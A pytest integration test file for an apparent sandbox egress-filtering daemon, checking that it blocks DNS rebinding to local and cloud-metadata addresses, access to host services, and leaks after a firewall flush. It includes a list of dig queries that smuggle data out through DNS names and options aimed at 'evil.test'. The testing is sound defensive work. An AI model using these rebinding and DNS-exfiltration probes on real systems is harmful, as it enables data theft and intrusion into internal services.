"""The host's side taken away, its services asked for, and names that lead where they must not."""

from __future__ import annotations

import time
from typing import Any

import pytest

from integration import inside
from integration.chatter import Chatter
from integration.probe import Resident, probe
from lab import topology as t
from lab.machine import VENV, poll

MARKER = "host-90ad"
POLICY = """
workspace: acme
guard: {guard}
members: [user:4001]
allow:
  - {{host: plain.test, ports: [7/tcp, 443/udp, 9998/tcp], verify: address}}
  - {{host: trick.test, ports: [7/tcp, 9997/tcp, 9998/tcp, 9999/tcp, 80/tcp, 53/tcp], verify: address}}
  - {{host: private.test, ports: [7/tcp, 9997/tcp, 9998/tcp, 9999/tcp, 80/tcp, 53/tcp], verify: address,
     private: true}}
  - local: ollama
"""
LOCAL = (
    ["127.0.0.1", "127.9.9.9", "0.0.0.0", "169.254.53.53", "169.254.54.1", "169.254.54.2", "169.254.169.254",
     "198.18.0.4", "198.19.0.1", "224.0.0.1", "255.255.255.255", "240.0.0.1"],
    ["::1", "::", "fe80::53", "fe80::1", "fd53:2::1", "fd53:2::2", "fd53:53::53", "fd53:e9::4", "fd53:1::1",
     "::ffff:7f00:1", "::ffff:a03:1", "ff02::1", "fd00:ec2::254"],
)  # fmt: skip


FICKLE = ("trick.test", "private.test")  # answers are asked for again every five seconds


@pytest.fixture(scope="module")
def daemon(start_module_daemon: Any, _servers: Any) -> Any:
    good(_servers[0])
    return start_module_daemon(policies={"acme": POLICY.format(guard="enforce")})


@pytest.fixture(autouse=True)
def _answering(daemon: Any, internet: Any, host_services: Any) -> None:
    """Names as in `good` again."""


def good(internet: Any) -> None:
    for name in FICKLE:
        learnt(internet, name, [str(t.PLAIN4)], [str(t.PLAIN6)], standing=True)


def learnt(internet: Any, name: str, four: list[str], six: list[str], *, standing: bool = False) -> None:
    types = {kind: found for kind, found in (("A", four), ("AAAA", six)) if found}
    internet.set(name, t.Records(types, ttl=1), standing=standing)


# ---- names


def test_an_allowed_name_that_turns_to_forbidden_places_leads_nowhere(
    daemon: Any, internet: Any, host_services: Any, uplink: Any
) -> None:
    """DNS rebinding: good at first, then whatever is close: under `private: true` as well."""
    with Resident(daemon, timeout=1.0) as resident:
        before = resident.tries(*(("tcp", name, 7, "x") for name in FICKLE))
        assert [o.result for o in before] == ["ok", "ok"], before
        internet.forget()
        for name in FICKLE:
            learnt(internet, name, *LOCAL)
        poll(lambda: {"trick.test", "private.test"} <= {q[0] for q in internet.queries()}, timeout=20)
        poll(
            lambda: resident.tries(("resolve", "trick.test"))[0].result != "ok", what="the name leads nowhere"
        )
        since = uplink.settle()
        ports = (7, 80, 53, *t.SECRET_PORTS)
        tried = resident.tries(*(("tcp", name, port, MARKER) for port in ports for name in FICKLE))
        assert all(o.result != "ok" for o in tried), tried
        uplink.assert_never(MARKER.encode(), since=since)
        assert not [seen for seen in host_services.seen() if MARKER in seen.data]


def test_a_private_name_that_leads_to_the_hosts_own_address_reaches_no_service(
    daemon: Any, internet: Any, host_services: Any
) -> None:
    """The host's addresses may be any: its own side refuses what comes from the gateway."""
    learnt(internet, "private.test", [str(t.HOST4)], [])
    poll(lambda: f": {t.HOST4}" in daemon.json("ruleset")["text"], timeout=20, what="the gateway leads there")
    with Resident(daemon, timeout=2.0) as resident:
        tried = resident.tries(*(("tcp", "private.test", port, MARKER) for port in t.SECRET_PORTS))
    assert {o.result for o in tried} == {"ECONNREFUSED"}, tried
    assert max(o.milliseconds for o in tried) < 50
    assert not [seen for seen in host_services.seen() if MARKER in seen.data]


QUESTIONS = [
    "+notcp {m}.plain.test A", "+tcp {m}.plain.test TXT", "+notcp {m}.{m}.{m}.{m}.trick.test A",
    "+notcp plain.test TXT", "+notcp plain.test NULL", "+notcp plain.test ANY", "+tcp plain.test AXFR",
    "+notcp plain.test CNAME", "+notcp plain.test HTTPS", "+notcp plain.test SVCB", "+notcp plain.test DS",
    "+notcp CH TXT version.bind", "+notcp plain.test +subnet=11.22.33.66/32",
    "+notcp plain.test +ednsopt=65001:{x} A", "+cookie={x} {m}.test A", "+notcp -x 11.22.33.66",
    "+notcp {m}.ollama A", "+notcp {m}.localhost A", "+notcp +dnssec +bufsize=65535 {m}.evil.test DNSKEY",
    "+opcode=update plain.test SOA", "+opcode=notify plain.test SOA", "+norecurse {m}.evil.test A",
]  # fmt: skip


def test_no_question_carries_a_byte_upstream(daemon: Any, internet: Any, uplink: Any) -> None:
    """Names below allowed ones, rare types, options: the resolver answers from its list, or not at all."""
    probe(daemon, [("resolve", "plain.test")])
    text = MARKER.replace("-", "")
    internet.forget()
    since = uplink.settle()
    script = "\n".join(
        f"dig +tries=1 +time=1 @{server} {question.format(m=text, x=text.encode().hex())} >/dev/null; true"
        for question in QUESTIONS
        for server in ("169.254.53.53", "fd53:53::53")
    )
    daemon.sandbox("acme", ["/bin/sh", "-c", script]).check()
    uplink.assert_never(text.encode(), text.encode().hex().encode(), since=since)
    assert {name for name, _ in internet.queries()} <= {"plain.test", "trick.test", "private.test"}
    assert inside.counters(daemon)["balance"]["balanced"]


# ---- local services


def test_only_the_service_that_is_allowed_answers(daemon: Any, host_services: Any) -> None:
    synthetic = probe(daemon, [("resolve", "ollama", family) for family in "46"])
    ports = (22, 80, 8443, *t.SECRET_PORTS, t.OLLAMA_PORT + 1)
    tried = probe(daemon, [("tcp", where.data, port, MARKER) for where in synthetic for port in ports])
    assert {o.result for o in tried} == {"ECONNREFUSED"}, tried
    tried = probe(daemon, [("tcp", where, port, MARKER) for where in ("127.0.0.1", "::1") for port in ports])
    assert {o.result for o in tried} == {"ECONNREFUSED"}, tried
    tried = probe(daemon, [("udp", where.data, t.OLLAMA_PORT, MARKER) for where in synthetic])
    assert {o.result for o in tried} == {"ECONNREFUSED"}, tried
    assert not [seen for seen in host_services.seen() if MARKER in seen.data]


def test_a_service_that_is_down_is_refused_at_once(start_daemon: Any, daemon: Any) -> None:
    """Nobody listens on the host's 127.0.0.1:11500."""
    daemon.policy("acme", POLICY.format(guard="enforce") + "  - {local: absent, ports: [11500/tcp]}\n")
    tried = probe(daemon, [("tcp", where, 11500, MARKER) for where in ("127.0.0.1", "::1", "absent")])
    assert {o.result for o in tried} <= {"ECONNREFUSED", "ECONNRESET"}, tried
    assert max(o.milliseconds for o in tried) < 50, tried
    daemon.policy("acme", POLICY.format(guard="enforce"))


# ---- the host's own firewall


def mend(daemon: Any) -> None:
    daemon.lab.run([str(VENV / "bin" / "egressd"), "--config", daemon.config_file, "--mend"]).check()


def works(resident: Resident) -> bool:
    return resident.tries(("tcp", "plain.test", 7, "x"))[0].result == "ok"


def test_the_hosts_firewall_flushed(daemon: Any, host_services: Any, uplink: Any) -> None:
    """`nft flush ruleset` on the host, as a reload of its own firewall does: what was not allowed stays
    denied, no service of the host answers, and `egressd --mend` puts it right under open sandboxes."""
    elsewhere = [(kind, str(to), 7, MARKER) for kind in ("tcp", "udp") for to in (t.EVIL4, t.EVIL6)]
    services = [
        ("tcp", address, port, MARKER)
        for address in (str(t.HOST4), str(t.HOST6), "169.254.54.1", "fd53:2::1")
        for port in t.SECRET_PORTS
    ]
    with Resident(daemon, timeout=0.5) as resident:
        assert works(resident)
        daemon.lab.run(["nft", "flush", "ruleset"]).check()
        since = uplink.settle()
        tried = resident.tries(*elsewhere, *services)
        assert {o.result for o in tried} == {"ECONNREFUSED"}, tried
        uplink.assert_never(MARKER.encode(), since=since)
        assert not [seen for seen in host_services.seen() if MARKER in seen.data]
        fresh = resident.tries(("tcp", "plain.test", 7, "fresh"))[0]
        strays = [
            f for f in uplink.frames(since=since, outgoing=True) if f.destination not in (t.PLAIN4, t.PLAIN6)
        ]
        strays = [f for f in strays if f.destination not in (t.DNS4, t.DNS6)]
        assert not strays, [str(f) for f in strays]
        print("approved traffic meanwhile:", fresh.result)
        mend(daemon)
        poll(lambda: works(resident), timeout=5, what="mended")
        mend(daemon)
        assert works(resident)
    assert "egressd_host" in daemon.lab.run(["nft", "list", "tables"]).check().out
    assert inside.counters(daemon)["balance"]["balanced"]


# ---- revoked, and used again


def test_what_a_revoked_host_leaves_behind_is_not_the_next_hosts(
    daemon: Any, internet: Any, uplink: Any
) -> None:
    """Another name for the same server, another server for the same name: old flows end, UDP and TCP, both
    families; nothing of them reaches the old server again."""
    flows = ["tcp4 one.cdn.test 7", "tcp6 one.cdn.test 7", "udp4 one.cdn.test 443", "udp6 one.cdn.test 443"]
    more = "  - {{host: {}, ports: [7/tcp, 443/udp], verify: address}}\n"
    base = POLICY.format(guard="enforce")
    daemon.policy("acme", base + more.format("one.cdn.test"))
    with Chatter(daemon, flows) as chatter:
        daemon.policy("acme", base + more.format("two.cdn.test"))
        since = uplink.settle()
        for flow in flows:
            failed = chatter.wait_for_failure(flow)
            # A datagram whose answer was on its way hears nothing; the next one is refused.
            wanted = {"ECONNRESET"} if flow.startswith("tcp") else {"ECONNREFUSED", "timeout"}
            assert failed["error"] in wanted, failed
        left = [f for f in uplink.frames(since=since, outgoing=True) if b"chatter" in f.data]
        assert len(left) <= len(flows), "at most what was on its way"
        time.sleep(0.1)
        uplink.assert_never(b"chatter", since=uplink.settle())
    daemon.policy("acme", base + more.format("one.cdn.test"))
    internet.set("one.cdn.test", A=[str(t.PLAIN4)], AAAA=[str(t.PLAIN6)])
    with Chatter(daemon, flows[:1]) as chatter:
        assert chatter.beats()
    daemon.policy("acme", base)
    assert inside.counters(daemon)["balance"]["balanced"]
